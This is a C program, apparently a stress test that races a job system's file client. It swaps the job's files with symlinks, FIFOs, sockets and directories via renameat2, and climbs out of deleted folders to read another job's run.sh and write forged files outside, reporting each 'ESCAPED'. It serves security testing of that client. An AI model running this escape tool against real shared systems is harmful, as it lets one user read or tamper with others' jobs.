/* Runs inside a job: swaps files and folders of its own for links, FIFOs and sockets, as fast as the kernel can.

   swapper OUTSIDE SECONDS, in the job's folder. OUTSIDE is another job's folder on the login node. Its children swap
   names by renameat2(RENAME_EXCHANGE), so that there is always something; one sits in a folder that the client deletes
   and tries to climb out. Prints the number of swaps, and `ESCAPED …` for each thing that it reached outside. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static volatile unsigned long *swaps;
static time_t end;

static void put(const char *path, const char *text)
{
    int fd = open(path, O_CREAT | O_WRONLY | O_TRUNC | O_NOFOLLOW, 0600);
    if (fd >= 0) {
        if (write(fd, text, strlen(text)) < 0)
            perror(path);
        close(fd);
    }
}

static void listen_at(const char *path)
{
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    int fd = socket(AF_UNIX, SOCK_STREAM, 0);
    snprintf(address.sun_path, sizeof address.sun_path, "%.100s", path);
    unlink(path);
    bind(fd, (struct sockaddr *)&address, sizeof address);
    close(fd);
}

/* Make what is missing of `name`'s stand-ins: the client deletes and uploads under the same names. */
static void make(const char *name, const char *outside, int folder)
{
    char other[256], inner[300], target[600];
    snprintf(target, sizeof target, "%s%s", outside, folder ? "" : "/x");
    snprintf(other, sizeof other, "%s.link", name);
    if (symlink(target, other) && errno != EEXIST)
        perror(other);
    snprintf(other, sizeof other, "%s.fifo", name);
    mkfifo(other, 0600);
    snprintf(other, sizeof other, "%s.sock", name);
    if (access(other, F_OK))
        listen_at(other);
    snprintf(other, sizeof other, "%s.hard", name);
    put("twin", "inside");
    if (link("twin", other) && errno != EEXIST)
        perror(other);
    snprintf(other, sizeof other, "%s.dir", name);
    mkdir(other, 0700);
    snprintf(inner, sizeof inner, "%s/x", other);
    put(inner, "inside");
    snprintf(inner, sizeof inner, "%s/c", other);
    mkdir(inner, 0700);
    snprintf(inner, sizeof inner, "%s/c/x", other);
    put(inner, "inside");
    if (folder) {
        mkdir(name, 0700);
        snprintf(inner, sizeof inner, "%s/x", name);
        put(inner, "inside");
    } else if (access(name, F_OK))
        put(name, "inside");
}

static void swap_for_ever(const char *name, const char *outside, int folder)
{
    static const char *kinds[] = {".link", ".fifo", ".link", ".dir", ".link", ".hard", ".link", ".sock"};
    char other[256];
    for (unsigned long turn = 0; time(NULL) < end; turn++) {
        if (turn % 500 == 0)
            make(name, outside, folder);
        snprintf(other, sizeof other, "%s%s", name, kinds[turn % 8]);
        for (int back = 0; back < 2; back++)
            if (syscall(SYS_renameat2, AT_FDCWD, name, AT_FDCWD, other, 2 /* RENAME_EXCHANGE */) == 0)
                __sync_fetch_and_add(swaps, 1);
            else if (errno == ENOENT)
                make(name, outside, folder);
        if (turn % 64 == 63)
            chmod(other, turn & 64 ? 0 : 0700);
    }
}

/* Sit in a folder that the client deletes, which moves it out of the bound folder, and look what is above it. */
static void climb(const char *name)
{
    static const char *wanted[] = {"../run.sh", "../../run.sh", "../../../run.sh", "../../../../.gateway/notices"};
    char up[64];
    while (time(NULL) < end) {
        mkdir(name, 0700);
        if (chdir(name))
            continue;
        put("x", "inside");
        for (int turn = 0; turn < 2000 && access("/job/twin", F_OK) == 0; turn++) {
            for (int i = 0; i < 4; i++) {
                int fd = open(wanted[i], O_RDONLY);
                if (fd >= 0) {
                    printf("ESCAPED read %s\n", wanted[i]);
                    close(fd);
                }
                snprintf(up, sizeof up, "%.*s/forged", 2 + 3 * i, "../../../..");
                fd = i ? open(up, O_CREAT | O_EXCL | O_WRONLY, 0600) : -1;
                if (fd >= 0) {
                    printf("ESCAPED wrote %s\n", up);
                    unlink(up);
                    close(fd);
                }
            }
            __sync_fetch_and_add(swaps, 1);
        }
        fflush(stdout);
        if (chdir("/job"))
            return;
    }
}

int main(int count, char **words)
{
    static const char *files[] = {"f", "g"}, *folders[] = {"d", "e"};
    if (count != 3)
        return 2;
    end = time(NULL) + atol(words[2]);
    swaps = mmap(NULL, sizeof *swaps, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
    put("twin", "inside");
    for (int i = 0; i < 2; i++) {
        if (!fork()) {
            swap_for_ever(files[i], words[1], 0);
            _exit(0);
        }
        if (!fork()) {
            swap_for_ever(folders[i], words[1], 1);
            _exit(0);
        }
    }
    if (!fork()) {
        climb("sat-in");
        _exit(0);
    }
    puts("ready");
    fflush(stdout);
    while (time(NULL) < end) {
        sleep(1);
        printf("swaps %lu\n", *swaps);
        fflush(stdout);
    }
    while (wait(NULL) > 0)
        ;
    return 0;
}
